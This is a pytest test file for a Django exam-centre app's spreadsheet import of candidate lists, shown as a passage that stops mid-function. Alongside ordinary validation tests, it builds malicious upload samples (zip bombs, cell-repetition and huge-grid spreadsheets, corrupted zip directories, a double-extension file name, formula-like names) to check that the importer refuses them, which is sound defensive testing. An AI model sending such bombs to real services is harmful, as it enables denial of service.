"""Importing a session's candidate list from a .ods or .csv file, on the page and the API.

An import is all-or-nothing: every row is validated with the form of the « Inscrire un
candidat » page, and each error names the row (as numbered in the spreadsheet, header = 1)
and the column.
"""

import contextlib
import datetime as dt
import io
import random
import re
import string
import struct
import zipfile
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from odf.opendocument import load as load_ods
from odf.table import Table, TableCell, TableRow
from odf.text import P
from python_calamine import CalamineWorkbook

from audit.models import AuditEvent
from exams.actions import do_import_candidates
from exams.imports import parse_candidates
from exams.models import Candidate
from lib.spreadsheets import SpreadsheetError
from tests.factories import CandidateFactory
from tests.spreadsheets import CANDIDATE_HEADERS, candidate_row, make_csv, make_ods

TODAY = dt.date(2025, 3, 3)
IMPORT_TAG = "centre:candidate:import"
BIRTHDATE_COLUMN = "« Date de naissance (JJ/MM/AAAA) »"


@pytest.fixture(autouse=True)
def frozen_today():
    """Every test runs on Monday 3 March 2025 in Paris, so date rules never drift."""
    with time_machine.travel(dt.datetime(2025, 3, 3, 10, 0, tzinfo=ZoneInfo("Europe/Paris"))):
        yield


# --- Helpers ------------------------------------------------------------------------------


def candidates_of(session) -> list[Candidate]:
    return list(Candidate.objects.filter(session=session).order_by("id"))


def page_url(session) -> str:
    return reverse("exams:candidate_import", args=[session.pk])


def api_url(session) -> str:
    return f"/api/sessions/{session.pk}/candidates/import"


def post_file(client, url: str, name: str, data: bytes):
    return client.post(url, {"file": SimpleUploadedFile(name, data)})


def errors_of(response) -> list[str]:
    if response["Content-Type"].startswith("application/json"):
        return response.json()["errors"]
    return list(response.context["errors"])


def csv_file(*rows: list[object], **options: str) -> bytes:
    return make_csv([CANDIDATE_HEADERS, *rows], **options)


def ods_row(values: list[object]) -> TableRow:
    row = TableRow()
    for value in values:
        cell = TableCell(valuetype="string")
        cell.addElement(P(text=str(value)))
        row.addElement(cell)
    return row


def rezip(data: bytes, members: dict[str, bytes]) -> bytes:
    """The same zip with some members replaced or added (mimetype stays first and stored)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        names = source.namelist() + [n for n in members if n not in source.namelist()]
        for name in names:
            content = members[name] if name in members else source.read(name)
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            target.writestr(name, content, compress_type=method)
    return out.getvalue()


def patch_central_directory(data: bytes, *, offset: int, value: int, fmt: str = "<H") -> bytes:
    """Overwrite one field of every central directory entry (what unzip tools read first)."""
    patched = bytearray(data)
    position = patched.find(b"PK\x01\x02")
    while position != -1:
        struct.pack_into(fmt, patched, position + offset, value)
        position = patched.find(b"PK\x01\x02", position + 4)
    return bytes(patched)


class Channel:
    """The page and the API accept the same files: most rules are checked through both."""

    def __init__(self, kind: str, client) -> None:
        self.kind = kind
        self.client = client

    def send(self, session, name: str, data: bytes):
        url = page_url(session) if self.kind == "page" else api_url(session)
        return post_file(self.client, url, name, data)

    def succeeded(self, response, session) -> bool:
        if self.kind == "page":
            return response.status_code == 302 and response["Location"] == reverse(
                "exams:session_detail", args=[session.pk]
            )
        return response.status_code == 201


@pytest.fixture(params=["page", "api"])
def channel(request, client, centre_admin) -> Channel:
    client.force_login(centre_admin)
    return Channel(request.param, client)


@pytest.fixture
def admin_client_(client, centre_admin):
    client.force_login(centre_admin)
    return client


# --- Valid files --------------------------------------------------------------------------


def test_it_imports_every_row_of_an_ods_with_date_and_number_cells(channel, exam_session):
    """An .ods whose birthdates are date cells and extra time number cells imports every row."""
    data = make_ods(
        [
            CANDIDATE_HEADERS,
            candidate_row("Léa", "Dupont", dt.date(2008, 3, 14), extra_time=33),
            candidate_row("Zoé", "Martin", dt.date(2007, 11, 2), sex="Homme", extra_time=0),
            candidate_row("Noël", "L'Haÿ", dt.date(2009, 1, 31), complementary="Pix+ Droit"),
        ]
    )

    response = channel.send(exam_session, "liste.ods", data)

    assert channel.succeeded(response, exam_session), response.content
    rows = [
        (
            c.first_name,
            c.last_name,
            c.birthdate,
            c.sex,
            c.extra_time_percentage,
            c.complementary_certification,
        )
        for c in candidates_of(exam_session)
    ]
    assert rows == [
        ("Léa", "Dupont", dt.date(2008, 3, 14), "F", 33, ""),
        ("Zoé", "Martin", dt.date(2007, 11, 2), "M", 0, ""),
        ("Noël", "L'Haÿ", dt.date(2009, 1, 31), "F", 0, "DROIT"),
    ]


@pytest.mark.parametrize(
    ("delimiter", "encoding"),
    [(";", "utf-8"), (",", "utf-8"), (";", "utf-8-sig"), (";", "cp1252"), ("\t", "utf-8")],
    ids=["semicolon", "comma", "utf8-bom", "windows-1252", "tab"],
)
def test_it_imports_every_row_of_a_csv_in_the_usual_dialects(
    channel, exam_session, delimiter, encoding
):
    """A .csv with ; , or tab, in UTF-8 (with or without BOM) or Windows-1252, imports every row."""
    data = csv_file(
        candidate_row("Léa", "Dupont", "14/03/2008", city="L’Haÿ-les-Roses", postal="94240"),
        candidate_row("Zoé", "Martin", "02/11/2007", sex="M", extra_time="33"),
        delimiter=delimiter,
        encoding=encoding,
    )

    response = channel.send(exam_session, "liste.csv", data)

    assert channel.succeeded(response, exam_session), response.content
    rows = [
        (c.first_name, c.last_name, c.birthdate, c.birth_city, c.extra_time_percentage)
        for c in candidates_of(exam_session)
    ]
    assert rows == [
        ("Léa", "Dupont", dt.date(2008, 3, 14), "L’Haÿ-les-Roses", 0),
        ("Zoé", "Martin", dt.date(2007, 11, 2), "Lyon", 33),
    ]


def test_it_stores_every_column_of_a_row_in_its_field(admin_client_, exam_session):
    """Each column lands in its own field, country upper-cased, extra time without « % »."""
    data = csv_file(
        candidate_row(
            "Amine",
            "Ben Ali",
            "01/02/2008",
            sex="M",
            city="Bruxelles",
            postal="",
            country="Belgique",
            email="amine@example.fr",
            recipient="parents@example.fr",
            external_id="INE-123",
            extra_time="33 %",
            complementary="CléA Numérique",
        )
    )

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert response.status_code == 302
    (candidate,) = candidates_of(exam_session)
    assert candidate.birth_city == "Bruxelles"
    assert candidate.birth_postal_code == ""
    assert candidate.birth_country == "BELGIQUE"
    assert candidate.email == "amine@example.fr"
    assert candidate.result_recipient_email == "parents@example.fr"
    assert candidate.external_id == "INE-123"
    assert candidate.extra_time_percentage == 33
    assert candidate.complementary_certification == "CLEA"


@pytest.mark.parametrize("typed", ["Pix+ Droit", "pix+ droit", "DROIT", "droit"])
def test_it_reads_the_complementary_certification_as_label_or_code(
    admin_client_, exam_session, typed
):
    """« Pix+ Droit » and the code DROIT, in any case, both mean the Pix+ Droit certification."""
    data = csv_file(candidate_row(complementary=typed))

    post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert [c.complementary_certification for c in candidates_of(exam_session)] == ["DROIT"]


@pytest.mark.parametrize(
    ("typed", "stored"),
    [("M", "M"), ("F", "F"), ("Homme", "M"), ("Femme", "F"), ("homme", "M"), ("f", "F")],
)
def test_it_reads_the_sex_as_a_letter_or_a_word(admin_client_, exam_session, typed, stored):
    """The sex may be typed M/F or Homme/Femme, in any case."""
    data = csv_file(candidate_row(sex=typed))

    post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert [c.sex for c in candidates_of(exam_session)] == [stored]


def test_it_defaults_the_birth_country_to_france(admin_client_, exam_session):
    """An empty « Pays de naissance » cell, or no such column at all, means FRANCE."""
    with_column = csv_file(candidate_row("Léa", country=""))
    headers, row = CANDIDATE_HEADERS[:6], candidate_row("Zoé")[:6]
    without_column = make_csv([headers, row])

    post_file(admin_client_, page_url(exam_session), "a.csv", with_column)
    post_file(admin_client_, page_url(exam_session), "b.csv", without_column)

    assert [c.birth_country for c in candidates_of(exam_session)] == ["FRANCE", "FRANCE"]


def test_it_restores_the_leading_zero_of_a_postal_code_typed_in_a_number_cell(
    admin_client_, exam_session
):
    """« 06000 » typed in a number cell is stored as 6000: born in France, it reads 06000."""
    data = make_ods(
        [
            CANDIDATE_HEADERS,
            candidate_row("Léa", city="Nice", postal=6000),
            candidate_row("Zoé", city="Bruxelles", postal=1000, country="Belgique"),
        ]
    )

    response = post_file(admin_client_, page_url(exam_session), "liste.ods", data)

    assert response.status_code == 302, errors_of(response)
    assert [c.birth_postal_code for c in candidates_of(exam_session)] == ["06000", "1000"]


def ods_with_percentage_cells(values: list[float]) -> bytes:
    """The candidate template filled in LibreOffice, « 33 % » typed in the extra time column."""
    document = load_ods(io.BytesIO(make_ods([CANDIDATE_HEADERS])))
    (sheet,) = document.spreadsheet.getElementsByType(Table)
    for i, value in enumerate(values):
        row = ods_row(candidate_row(f"Prénom{i}")[:10])
        cell = TableCell(valuetype="percentage", value=str(value))
        cell.addElement(P(text=f"{value:.0%}"))
        row.addElement(cell)
        sheet.addElement(row)
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def test_it_reads_a_percentage_cell_as_the_percentage_shown(admin_client_, exam_session):
    """A cell showing « 33 % » (stored 0.33) means 33; « 100 % » (stored 1) means 100, not 1."""
    data = ods_with_percentage_cells([0.33, 1.0, 0.0, 0.57])

    response = post_file(admin_client_, page_url(exam_session), "liste.ods", data)

    assert response.status_code == 302, errors_of(response)
    assert [c.extra_time_percentage for c in candidates_of(exam_session)] == [33, 100, 0, 57]


def test_it_refuses_a_percentage_cell_that_is_not_a_whole_percentage(admin_client_, exam_session):
    """« 12,5 % » in a percentage cell is refused like 12.5 typed."""
    data = ods_with_percentage_cells([0.125])

    response = post_file(admin_client_, page_url(exam_session), "liste.ods", data)

    assert errors_of(response) == [
        "Ligne 2, colonne « Temps majoré (%) » : Saisissez un pourcentage entier entre 0 et 100."
    ]


def test_it_finds_the_csv_delimiter_on_the_header_after_blank_lines(admin_client_, exam_session):
    """Blank lines before a comma-separated header neither hide it nor shift line numbers."""
    data = b"\r\n\r\n" + csv_file(
        candidate_row("Léa"), candidate_row("Zoé", sex="X"), delimiter=","
    )

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    (error,) = errors_of(response)
    assert error.startswith("Ligne 5, colonne « Sexe (M/F) » : ")


def ods_below_and_right_of_empty_cells(rows: list[tuple[list[object], float]]) -> bytes:
    """A list starting in C3 (two empty rows and columns), extra time as percentage cells."""
    document = load_ods(io.BytesIO(make_ods([])))
    (sheet,) = document.spreadsheet.getElementsByType(Table)
    for _ in range(2):
        empty = TableRow()
        empty.addElement(TableCell(numbercolumnsrepeated=3))
        sheet.addElement(empty)
    header = ods_row(CANDIDATE_HEADERS[:11])
    header.insertBefore(TableCell(numbercolumnsrepeated=2), header.firstChild)
    sheet.addElement(header)
    for values, extra_time in rows:
        row = ods_row(values[:10])
        row.insertBefore(TableCell(numbercolumnsrepeated=2), row.firstChild)
        percentage = TableCell(valuetype="percentage", value=str(extra_time))
        percentage.addElement(P(text=f"{extra_time:.0%}"))
        row.addElement(percentage)
        sheet.addElement(row)
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def test_it_numbers_ods_lines_from_the_top_of_the_sheet(admin_client_, exam_session):
    """In an .ods whose list starts below empty rows, lines keep the sheet's numbers."""
    data = ods_below_and_right_of_empty_cells(
        [(candidate_row("Léa"), 0.33), (candidate_row("Zoé", sex="X"), 0.33)]
    )

    response = post_file(admin_client_, page_url(exam_session), "liste.ods", data)

    (error,) = errors_of(response)
    assert error.startswith("Ligne 5, colonne « Sexe (M/F) » : ")


def test_it_finds_percentage_cells_of_a_list_that_does_not_start_in_a1(admin_client_, exam_session):
    """Percentage cells are read as shown wherever the list sits in the sheet."""
    data = ods_below_and_right_of_empty_cells(
        [(candidate_row("Léa"), 0.33), (candidate_row("Zoé"), 1.0)]
    )

    response = post_file(admin_client_, page_url(exam_session), "liste.ods", data)

    assert response.status_code == 302, errors_of(response)
    assert [c.extra_time_percentage for c in candidates_of(exam_session)] == [33, 100]


def test_it_accepts_namesakes_born_on_different_days(admin_client_, exam_session):
    """Same names with another birthdate are two people: both are imported."""
    data = csv_file(
        candidate_row("Zoé", "Martin", "14/03/2008"), candidate_row("Zoé", "Martin", "15/03/2008")
    )

    post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert len(candidates_of(exam_session)) == 2


# --- All or nothing -----------------------------------------------------------------------


def test_it_saves_nothing_when_one_row_among_good_ones_is_wrong(channel, exam_session):
    """One bad row among good ones: status 400, the error names its line, nothing is saved."""
    data = csv_file(
        candidate_row("Léa"), candidate_row("Zoé", birthdate="31/02/2008"), candidate_row("Noé")
    )

    response = channel.send(exam_session, "liste.csv", data)

    assert response.status_code == 400
    assert errors_of(response) == [
        f"Ligne 3, colonne {BIRTHDATE_COLUMN} : Saisissez une date valide (JJ/MM/AAAA)."
    ]
    assert candidates_of(exam_session) == []


def test_it_lists_every_error_of_the_file_at_once(channel, exam_session):
    """Every wrong cell of every row is listed, in file order, with its line and column."""
    data = csv_file(
        candidate_row("Léa", sex="X", extra_time="150"),
        candidate_row("Zoé"),
        candidate_row("", email="pas-un-email"),
    )

    response = channel.send(exam_session, "liste.csv", data)

    errors = errors_of(response)
    assert [re.match(r"Ligne (\d+), colonne « (.+?) » : ", e).groups() for e in errors] == [
        ("2", "Sexe (M/F)"),
        ("2", "Temps majoré (%)"),
        ("4", "Prénom"),
        ("4", "E-mail du candidat"),
    ]
    assert candidates_of(exam_session) == []


@pytest.mark.parametrize("kind", ["csv", "ods"])
def test_it_numbers_lines_as_in_the_spreadsheet_counting_blank_lines(
    admin_client_, exam_session, kind
):
    """Header = line 1 and blank lines keep their number, as the spreadsheet shows them."""
    rows = [
        CANDIDATE_HEADERS,
        candidate_row("Léa"),
        [""] * len(CANDIDATE_HEADERS),
        [""] * len(CANDIDATE_HEADERS),
        candidate_row("Zoé", birthdate="2008-13-01"),
    ]
    data = make_csv(rows) if kind == "csv" else make_ods(rows)

    response = post_file(admin_client_, page_url(exam_session), f"liste.{kind}", data)

    assert response.status_code == 400
    assert errors_of(response) == [
        f"Ligne 5, colonne {BIRTHDATE_COLUMN} : Saisissez une date valide (JJ/MM/AAAA)."
    ]


def test_it_shows_the_errors_on_the_import_page(admin_client_, exam_session):
    """The page tells that nothing was saved and lists each error."""
    data = csv_file(candidate_row(sex="X"))

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    html = response.content.decode()
    assert "Aucune donnée n'a été enregistrée" in html
    assert "Ligne 2, colonne « Sexe (M/F) »" in html


# --- Wrong values -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("birthdate", "message"),
    [
        ("31/02/2008", "Saisissez une date valide (JJ/MM/AAAA)."),
        ("2008-13-01", "Saisissez une date valide (JJ/MM/AAAA)."),
        ("14 mars 2008", "Saisissez une date valide (JJ/MM/AAAA)."),
        ("04/03/2025", "La date de naissance doit être dans le passé."),
        ("03/03/2025", "La date de naissance doit être dans le passé."),
        ("31/12/1899", "La date de naissance est trop ancienne."),
        ("", "Ce champ est obligatoire."),
    ],
)
def test_it_refuses_an_impossible_or_out_of_range_birthdate(
    admin_client_, exam_session, birthdate, message
):
    """An impossible date, a birthdate today or later, or before 1900 is refused."""
    data = csv_file(candidate_row(birthdate=birthdate))

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert errors_of(response) == [f"Ligne 2, colonne {BIRTHDATE_COLUMN} : {message}"]
    assert candidates_of(exam_session) == []


def test_it_refuses_a_future_birthdate_typed_as_a_date_cell(admin_client_, exam_session):
    """A date cell of an .ods is checked like typed text: tomorrow is refused."""
    data = make_ods([CANDIDATE_HEADERS, candidate_row(birthdate=TODAY + dt.timedelta(days=1))])

    response = post_file(admin_client_, page_url(exam_session), "liste.ods", data)

    assert errors_of(response) == [
        f"Ligne 2, colonne {BIRTHDATE_COLUMN} : La date de naissance doit être dans le passé."
    ]


@pytest.mark.parametrize("sex", ["X", "Autre", "MF", ""])
def test_it_refuses_a_sex_other_than_m_or_f(admin_client_, exam_session, sex):
    """Only M/F (or Homme/Femme) is accepted for the sex."""
    data = csv_file(candidate_row(sex=sex))

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    (error,) = errors_of(response)
    assert error.startswith("Ligne 2, colonne « Sexe (M/F) » : ")
    assert candidates_of(exam_session) == []


@pytest.mark.parametrize("extra_time", ["150", "101", "abc", "-5", "12.5"])
def test_it_refuses_an_extra_time_that_is_not_a_whole_percentage(
    admin_client_, exam_session, extra_time
):
    """Extra time is a whole percentage from 0 to 100: 150, « abc », -5 or 12.5 are refused."""
    data = csv_file(candidate_row(extra_time=extra_time))

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert errors_of(response) == [
        "Ligne 2, colonne « Temps majoré (%) » : Saisissez un pourcentage entier entre 0 et 100."
    ]


@pytest.mark.parametrize(
    ("column", "index"),
    [("E-mail du candidat", 7), ("E-mail du destinataire des résultats", 8)],
)
@pytest.mark.parametrize("email", ["pas-un-email", "lea@", "lea@@exemple.fr", "léa dupont@x.fr"])
def test_it_refuses_a_malformed_email(admin_client_, exam_session, column, index, email):
    """A malformed candidate or result-recipient e-mail is refused, naming its column."""
    row = candidate_row()
    row[index] = email

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", csv_file(row))

    assert errors_of(response) == [
        f"Ligne 2, colonne « {column} » : Saisissez une adresse de courriel valide."
    ]


def test_it_refuses_an_unknown_complementary_certification(admin_client_, exam_session):
    """A complementary certification that does not exist is refused."""
    data = csv_file(candidate_row(complementary="Pix+ Cuisine"))

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    (error,) = errors_of(response)
    assert error.startswith("Ligne 2, colonne « Certification complémentaire » : ")


def test_it_requires_a_postal_code_for_a_birth_in_france(admin_client_, exam_session):
    """Born in France, the candidate needs a 5-digit postal code."""
    data = csv_file(candidate_row(postal="6900"))

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert errors_of(response) == [
        "Ligne 2, colonne « Code postal de naissance » : "
        "Pour une naissance en France, saisissez le code postal (5 chiffres)."
    ]


@pytest.mark.parametrize("name", ["Lé\x07a", "Lé\x1ba", "==", "''"])
def test_it_refuses_a_name_with_control_characters_or_no_letter(admin_client_, exam_session, name):
    """A first name with control characters, or without any letter, is refused."""
    data = csv_file(candidate_row(first=name))

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert response.status_code == 400
    assert all(e.startswith("Ligne 2") for e in errors_of(response))
    assert candidates_of(exam_session) == []


@pytest.mark.parametrize(
    "missing",
    [i for i, header in enumerate(CANDIDATE_HEADERS) if header.endswith(" *")],
    ids=lambda i: CANDIDATE_HEADERS[i],
)
def test_it_names_a_missing_required_column(channel, exam_session, missing):
    """A file without a required column is refused with the column's name."""
    headers = [h for i, h in enumerate(CANDIDATE_HEADERS) if i != missing]
    row = [v for i, v in enumerate(candidate_row()) if i != missing]
    expected = CANDIDATE_HEADERS[missing].removesuffix(" *")

    response = channel.send(exam_session, "liste.csv", make_csv([headers, row]))

    assert response.status_code == 400
    assert errors_of(response) == [f"Colonne obligatoire manquante : « {expected} »."]
    assert candidates_of(exam_session) == []


# --- Files that are not what they claim ---------------------------------------------------


@pytest.mark.parametrize("name", ["liste.txt", "liste.xls", "liste.pdf", "liste", "liste.csv.exe"])
def test_it_refuses_an_unsupported_file_extension(channel, exam_session, name):
    """Only .csv, .ods and .xlsx are read; any other name is refused."""
    response = channel.send(exam_session, name, csv_file(candidate_row()))

    assert response.status_code == 400
    assert errors_of(response) == [
        "Format non pris en charge : choisissez un fichier .ods ou .csv."
    ]
    assert candidates_of(exam_session) == []


@pytest.mark.parametrize("name", ["liste.csv", "liste.ods"])
def test_it_refuses_an_empty_file(channel, exam_session, name):
    """A 0-byte file is refused as empty."""
    response = channel.send(exam_session, name, b"")

    assert response.status_code == 400
    assert errors_of(response) == ["Le fichier est vide."]


def test_it_refuses_a_file_of_blank_lines(admin_client_, exam_session):
    """A file of blank lines and empty cells is refused as empty."""
    response = post_file(admin_client_, page_url(exam_session), "l.csv", b"\r\n ; ;\r\n\r\n")

    assert errors_of(response) == ["Le fichier est vide."]


@pytest.mark.parametrize("kind", ["csv", "ods"])
def test_it_refuses_a_file_with_only_the_header(admin_client_, exam_session, kind):
    """A header without any candidate row is refused."""
    data = make_csv([CANDIDATE_HEADERS]) if kind == "csv" else make_ods([CANDIDATE_HEADERS])

    response = post_file(admin_client_, page_url(exam_session), f"liste.{kind}", data)

    assert response.status_code == 400
    assert errors_of(response) == ["Le fichier ne contient aucune ligne après l'en-tête."]


def test_it_refuses_a_file_over_the_size_limit(channel, exam_session):
    """An upload over the size limit (here 10 MB of rows) is refused, with no server error."""
    row = make_csv([candidate_row()])
    data = csv_file() + row * (10 * 1024 * 1024 // len(row) + 1)
    assert len(data) > 10 * 1024 * 1024 > django_settings.IMPORT_MAX_BYTES

    response = channel.send(exam_session, "liste.csv", data)

    assert response.status_code == 400
    (error,) = errors_of(response)
    assert "taille maximale" in error
    assert candidates_of(exam_session) == []


def test_it_refuses_more_rows_than_the_maximum(admin_client_, exam_session):
    """More than 1000 candidate rows in one file are refused."""
    rows = [candidate_row("Léa", f"Nom{i}") for i in range(1001)]

    response = post_file(admin_client_, page_url(exam_session), "l.csv", csv_file(*rows))

    assert errors_of(response) == ["Le fichier contient plus de 1000 lignes."]
    assert candidates_of(exam_session) == []


def test_it_refuses_binary_garbage_named_csv(channel, exam_session):
    """Random bytes named .csv are refused without a server error."""
    data = random.Random(4).randbytes(4000)

    response = channel.send(exam_session, "liste.csv", data)

    assert response.status_code == 400
    assert errors_of(response)
    assert candidates_of(exam_session) == []


def test_it_refuses_a_csv_containing_nul_bytes(channel, exam_session):
    """A .csv with NUL bytes (UTF-16, or a binary file renamed) is refused as unreadable."""
    data = csv_file(candidate_row()).replace(b"Dupont", b"Du\x00pont")

    response = channel.send(exam_session, "liste.csv", data)

    assert errors_of(response) == ["Le fichier n'est pas un fichier CSV lisible."]


def test_it_refuses_a_utf16_csv_as_unreadable(admin_client_, exam_session):
    """A UTF-16 export (every other byte NUL) is refused as an unreadable CSV."""
    data = make_csv([CANDIDATE_HEADERS, candidate_row()], encoding="utf-16")

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    assert errors_of(response) == ["Le fichier n'est pas un fichier CSV lisible."]


def test_it_refuses_a_csv_with_a_runaway_quoted_field(admin_client_, exam_session):
    """An opening quote never closed swallows the file: refused as a malformed CSV."""
    data = csv_file(candidate_row()) + b'"' + b"a" * 200_000

    response = post_file(admin_client_, page_url(exam_session), "liste.csv", data)

    (error,) = errors_of(response)
    assert error.startswith("Le fichier CSV est mal formé")


def test_it_refuses_random_bytes_named_ods(channel, exam_session):
    """Random bytes named .ods are refused as an unreadable spreadsheet."""
    data = random.Random(7).randbytes(4000)

    response = channel.send(exam_session, "liste.ods", data)

    assert response.status_code == 400
    assert errors_of(response) == ["Le fichier n'est pas un classeur .ods ou .xlsx lisible."]


def test_it_refuses_a_zip_that_is_not_a_spreadsheet(channel, exam_session):
    """A zip archive of text files renamed .ods is refused as an unreadable spreadsheet."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "Léa Dupont 14/03/2008")

    response = channel.send(exam_session, "liste.ods", out.getvalue())

    assert response.status_code == 400
    assert errors_of(response) == ["Le fichier n'est pas un classeur .ods ou .xlsx lisible."]


def test_it_refuses_an_ods_whose_content_is_not_xml(admin_client_, exam_session):
    """An .ods whose content.xml is garbage is refused as an unreadable spreadsheet."""
    good = make_ods([CANDIDATE_HEADERS, candidate_row()])
    data = rezip(good, {"content.xml": b"<office:document-content><table:table"})

    response = post_file(admin_client_, page_url(exam_session), "liste.ods", data)

    assert errors_of(response) == ["Le fichier n'est pas un classeur .ods ou .xlsx lisible."]


@pytest.mark.parametrize(
    ("offset", "value"),
    [(6, 0xFF), (8, 0x0800)],
    ids=["unknown-zip-version", "utf8-flag-on-a-latin1-name"],
)
def test_it_refuses_an_ods_with_a_corrupted_zip_directory(channel, exam_session, offset, value):
    """A zip directory Python cannot interpret is refused, not answered with a server error."""
    good = make_ods([CANDIDATE_HEADERS, candidate_row()])
    data = good.replace(b"content.xml", b"cont\xe9nt.xml") if offset == 8 else good
    data = patch_central_directory(data, offset=offset, value=value)

    response = channel.send(exam_session, "liste.ods", data)

    assert response.status_code == 400
    assert errors_of(response) == ["Le fichier n'est pas un classeur .ods ou .xlsx lisible."]


def test_it_refuses_a_zip_bomb_ods(channel, exam_session):
    """An .ods inflating beyond 50 MB is refused before being read."""
    good = make_ods([CANDIDATE_HEADERS, candidate_row()])
    data = rezip(good, {"Pictures/blank.xml": b"\0" * (60 * 1024 * 1024)})
    assert len(data) < 1024 * 1024

    response = channel.send(exam_session, "liste.ods", data)

    assert response.status_code == 400
    assert errors_of(response) == ["Le classeur est trop volumineux une fois décompressé."]


def test_it_refuses_an_ods_whose_repeated_cells_would_fill_millions_of_cells(channel, exam_session):
    """A few kB of .ods repeating a filled cell over millions of cells is refused."""
    good = make_ods([CANDIDATE_HEADERS, candidate_row()])
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        content = archive.read("content.xml").decode()
    bomb = (
        '<table:table-row table:number-rows-repeated="20000">'
        '<table:table-cell table:number-columns-repeated="200" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
    )
    data = rezip(good, {"content.xml": content.replace("</table:table>", bomb).encode()})
    assert len(data) < 10_000

    response = channel.send(exam_session, "liste.ods", data)

    assert response.status_code == 400
    assert errors_of(response) == ["Le classeur est trop volumineux une fois décompressé."]


def test_it_reads_an_ods_with_a_large_empty_formatted_area(admin_client_, exam_session):
    """Empty rows and columns repeated by the spreadsheet software (formatting) do not count."""
    good = make_ods([CANDIDATE_HEADERS, candidate_row()])
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        content = archive.read("content.xml").decode()
    empty_area = (
        '<table:table-row table:number-rows-repeated="1048574">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>'
    )
    data = rezip(good, {"content.xml": content.replace("</table:table>", empty_area).encode()})

    response = post_file(admin_client_, page_url(exam_session), "liste.ods", data)

    assert response.status_code == 302
    assert len(candidates_of(exam_session)) == 1


def xlsx(cells: str) -> bytes:
    """A minimal .xlsx whose first sheet holds the given <row> elements."""
    relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    package = "http://schemas.openxmlformats.org/package/2006"
    members = {
        "[Content_Types].xml": (
            f'<Types xmlns="{package}/content-types">'
            '<Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{package}/relationships">'
            f'<Relationship Id="rId1" Type="{relationships}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{main}" xmlns:r="{relationships}"><sheets>'
            '<sheet name="Candidats" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{package}/relationships">'
            f'<Relationship Id="rId1" Type="{relationships}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{cells}</sheetData></worksheet>',
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8"?>' + text)
    return out.getvalue()


def xlsx_row(number: int, values: list[object]) -> str:
    cells = "".join(
        f'<c r="{string.ascii_uppercase[i]}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values)
        if v != ""
    )
    return f'<row r="{number}">{cells}</row>'


def test_it_imports_an_xlsx(admin_client_, exam_session):
    """An .xlsx (Excel) list is read like an .ods."""
    data = xlsx(xlsx_row(1, CANDIDATE_HEADERS) + xlsx_row(2, candidate_row("Zoé", "Martin")))

    response = post_file(admin_client_, page_url(exam_session), "liste.xlsx", data)

    assert response.status_code == 302
    assert [c.first_name for c in candidates_of(exam_session)] == ["Zoé"]


def test_it_refuses_an_xlsx_whose_cells_span_millions_of_cells(channel, exam_session):
    """A tiny .xlsx with one cell far away (a grid of millions of cells to allocate) is refused."""
    far = '<row r="200000"><c r="Z200000" t="inlineStr"><is><t>x</t></is></c></row>'
    data = xlsx(xlsx_row(1, CANDIDATE_HEADERS) + xlsx_row(2, candidate_row()) + far)
    assert len(data) < 10_000

    response = channel.send(exam_session, "liste.xlsx", data)

    assert response.status_code == 400
    assert errors_of(response) == ["Le classeur est trop volumineux une fois décompressé."]


def test_it_refuses_an_xlsx_hiding_a_huge_sheet_in_a_part_not_named_xml(channel, exam_session):
    """A sheet stored under another name (relationships point to it) is measured too."""
    far = '<row r="200000"><c r="Z200000" t="inlineStr"><is><t>x</t></is></c></row>'
    data = xlsx(xlsx_row(1, CANDIDATE_HEADERS) + xlsx_row(2, candidate_row()) + far)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            content = source.read(name).replace(b"sheet1.xml", b"sheet1.dat")
